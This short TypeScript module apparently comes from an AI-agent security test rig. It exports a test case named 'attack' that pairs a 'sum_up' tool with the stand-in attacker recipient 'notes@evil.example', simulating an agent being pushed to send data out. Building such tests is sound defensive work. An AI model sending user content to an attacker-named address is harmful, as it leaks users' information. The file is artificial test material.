import { withheldTool } from '../rig/plain.ts';

export const attack = withheldTool('sum_up', ['notes@evil.example']);
